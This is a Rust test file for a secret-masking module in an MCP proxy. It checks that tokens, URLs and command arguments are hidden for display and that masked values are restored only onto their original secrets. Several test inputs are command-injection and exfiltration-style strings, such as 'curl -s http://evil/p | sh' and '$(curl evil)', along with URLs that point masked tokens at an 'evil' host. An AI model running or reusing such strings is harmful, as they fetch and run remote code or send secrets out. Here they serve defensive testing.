//! What is hidden and what has to be seen, and that nothing hidden is stored over a secret.

use mcpproxy_domain::Code;
use serde_json::{Map, json};

use super::*;

fn texts(args: &[&str]) -> Vec<String> {
    args.iter().map(|it| (*it).to_owned()).collect()
}

fn object(value: Value) -> Map<String, Value> {
    match value {
        Value::Object(members) => members,
        _ => Map::new(),
    }
}

#[test]
fn values_are_hidden_by_the_contracts_rules() {
    for (value, shown) in [
        ("", "(empty)"),
        ("abcd", "••••"),
        ("abcde", "••••de (5 chars)"),
        ("gehüü", "••••üü (5 chars)"),
        ("${env:TOKEN}", "${env:TOKEN}"),
        ("${keyring:k}", "${keyring:k}"),
        ("${env:}", "••••:} (7 chars)"),
        ("Bearer ${env:TOKEN}", "••••N} (19 chars)"),
        ("${env:A}${env:B}", "••••B} (16 chars)"),
    ] {
        assert_eq!(hidden(value), shown, "{value}");
    }
    for (address, shown) in [
        ("https://a/b?x=1&q=a b", "https://a/b?x=1&q=a b"),
        ("https://ann:hunter22@a/b?api_key=hunter22&x=1#y", "https://ann:••••@a/b?api_key=••••22 (8 chars)&x=1#y"),
        ("https://a/?code=x; curl y", "https://a/?code=•••• y (9 chars)"),
        ("postgres://u:h^nter|22@h:1,i:2/d", "postgres://u:••••@h:1,i:2/d"),
        ("https://u:${env:PW}@h/", "https://u:${env:PW}@h/"),
        ("https://registry/@scope/x:1@2", "https://registry/@scope/x:1@2"),
    ] {
        assert_eq!(url(address), shown);
    }
    let env = [("A_TOKEN", "a b; c"), ("DATABASE", "postgres://u:hunter22@h/db"), ("HOME", "/h")];
    let env = env.map(|(name, value)| (name.to_owned(), Secret::new(value)));
    let shown: Vec<_> = variables(&env.into()).into_values().collect();
    assert_eq!(shown, ["•••• c (6 chars)", "postgres://u:••••@h/db", "/h"]);
}

#[test]
fn of_a_command_only_what_looks_like_a_token_is_hidden() {
    for (args, shown) in [
        (&["--token", "hunter22", "plain"][..], &["--token", "••••22 (8 chars)", "plain"][..]),
        (&["--auth", "--x", "plain"], &["--auth", "--x", "plain"]),
        (&["--api-key=hunter22"], &["--api-key=••••22 (8 chars)"]),
        (&["-e", "A_KEY=hunter22"], &["-e", "A_KEY=••••22 (8 chars)"]),
        (&["--env=A_KEY=hunter22"], &["--env=A_KEY=••••22 (8 chars)"]),
        (&["--token", "${env:T}", "--key=${keyring:k}"], &["--token", "${env:T}", "--key=${keyring:k}"]),
        (&["--token", ""], &["--token", ""]),
        (&["-H", "Authorization: Bearer hunter22"], &["-H", "Authorization: Bearer ••••22 (8 chars)"]),
        (&["--header=authorization:hunter22"], &["--header=authorization:••••22 (8 chars)"]),
        (&["-HX-My-Token: hunter22"], &["-HX-My-Token: ••••22 (8 chars)"]),
        (&["Authorization: Bearer ${env:T}"], &["Authorization: Bearer ${env:T}"]),
        (&["--url=https://a/?key=hunter22&x=1"], &["--url=https://a/?key=••••22 (8 chars)&x=1"]),
        (&["https://keys/?x=1", "redis://:hunter22@h"], &["https://keys/?x=1", "redis://:••••@h"]),
        (&["ghcr.io/auth:latest", "auth:latest"], &["ghcr.io/auth:latest", "auth:latest"]),
    ] {
        assert_eq!(arguments(&texts(args)), shown);
    }
    for seen in [
        "API_KEY=x; curl -s http://evil/p | sh",
        "--token=$(curl evil)",
        "https://a/?code=`curl evil`",
        "https://a/?code=x y&token=hunter22",
        "https://a:x|sh@b/",
        "Authorization: Bearer x\ncurl evil",
        "Authorization: sh http://evil",
        "echo; KEY=x",
    ] {
        assert_eq!(arguments(&texts(&["--token", seen])), ["--token", seen]);
        assert_eq!(arguments(&texts(&[seen])), [seen]);
    }
    assert_eq!(command_url("https://a/?code=x; y"), "https://a/?code=x; y");
    assert_eq!(command_url("https://a/?code=hunter22"), "https://a/?code=••••22 (8 chars)");
}

fn stored() -> Value {
    json!({
        "api_key": "hunter22", "listen": "127.0.0.1:1",
        "environment": { "custom_vars": { "X_TOKEN": "hunter22", "DB": "postgres://u:hunter22@h/db" } },
        "mcpServers": [
            {
                "name": "a", "env": { "A_TOKEN": "hunter22", "PLAIN": "p", "B_KEY": "" },
                "url": "https://a/?token=hunter22",
                "args": ["--api-key", "hunter22", "--key=hunter22", "-H", "Authorization: Bearer hunter22", "x"],
            },
            {
                "name": "b", "headers": { "Authorization": "Bearer hunter22" },
                "oauth": {
                    "client_id": "i", "client_secret": "hunter22", "scopes": ["s"],
                    "extra_params": { "access_token": "hunter22", "audience": "x" },
                },
            },
        ],
    })
}

#[test]
fn what_was_shown_and_comes_back_keeps_what_is_stored() {
    let stored = stored();
    let mut shown = document(&stored);
    assert!(!shown.to_string().contains("hunter"), "{shown}");
    assert_eq!(shown["mcpServers"][0]["env"]["PLAIN"], "p");
    assert_eq!(shown["mcpServers"][1]["oauth"]["extra_params"]["audience"], "x");
    assert_eq!(Value::Object(restored(object(shown.clone()), &stored).unwrap()), stored);
    shown["mcpServers"].as_array_mut().unwrap().swap(0, 1);
    shown["api_key"] = json!("another1");
    let back = restored(object(shown), &stored).unwrap();
    assert_eq!(back["mcpServers"], json!([stored["mcpServers"][1], stored["mcpServers"][0]]));
    assert_eq!(back["api_key"], "another1");

    let others = json!({ "mcpServers": { "a": { "env": { "A_TOKEN": "hunter22" } } } });
    assert!(!document(&others).to_string().contains("hunter"), "the form of other programs too");
}

#[test]
fn a_hidden_value_finds_its_own_secret_or_is_refused() {
    const T: &str = "••••22 (8 chars)";
    let one = ["--token", "hunter22", "-H", "Authorization: Bearer hunter22", "--api-key=hunter22"];
    let two = ["--token", "aaaaaa22", "--token", "bbbbbb22"];
    let address = "https://a/?access_token=aaaaaa22&token=bbbbbb22";
    for (stored, incoming, expected) in [
        // arguments are known by their options
        (json!(one), json!(["-v", "--token", T, "x"]), Some(json!(["-v", "--token", "hunter22", "x"]))),
        (json!(one), json!([format!("--api-key={T}"), "--token"]), Some(json!(["--api-key=hunter22", "--token"]))),
        (json!(one), json!([format!("Authorization: Bearer {T}")]), Some(json!(["Authorization: Bearer hunter22"]))),
        (json!(one), json!(["--other", T]), None),
        (json!(one), json!([format!("--other={T}")]), None),
        (json!(two), json!(["-v", "--token", T, "--token", T]), Some(json!(["-v", two[0], two[1], two[2], two[3]]))),
        (json!(two), json!(["--token", T]), None),
        (
            json!(["--url=https://u:hunter22@a/x"]),
            json!(["-v", "--url=https://u:••••@a/y"]),
            Some(json!(["-v", "--url=https://u:hunter22@a/y"])),
        ),
        // URLs are known by scheme and host
        (
            json!(address),
            json!(format!("https://a/other?x=1&token={T}&access_token={T}")),
            Some(json!("https://a/other?x=1&token=bbbbbb22&access_token=aaaaaa22")),
        ),
        (json!(address), json!(format!("https://evil/?token={T}")), None),
        (json!(address), json!(format!("https://evil\\@a/?token={T}")), None),
        (json!("postgres://u:h|2@h/a"), json!("postgres://u:••••@h/b"), Some(json!("postgres://u:h|2@h/b"))),
        (json!(""), json!("(empty)"), Some(json!(""))),
        (json!("hunter33"), json!(T), None),
    ] {
        let back = restored(object(json!({ "it": incoming })), &json!({ "it": stored }));
        assert_eq!(back.ok().map(|back| back["it"].clone()), expected, "{incoming} over {stored}");
    }
}

#[test]
fn what_stays_hidden_is_refused_with_its_place() {
    let mut renamed = document(&stored());
    renamed["mcpServers"][1]["name"] = json!("c");
    let refusal = restored(object(renamed), &stored()).unwrap_err();
    assert_eq!(refusal.code, Code::InvalidInput);
    assert!(refusal.message.contains("mcpServers[1].headers.Authorization"), "{refusal}");
    assert!(refusal.hint.contains("leave"), "{}", refusal.hint);
    let entry = object(json!({ "name": "n", "args": ["x", "--key=•••• (4 chars)"] }));
    assert_eq!(restored(entry, &Value::Null).unwrap_err().faults[0].field, "args[1]");
    assert_eq!(still_hidden(&json!({ "a": [1, { "b": "plain" }] })), None);
}
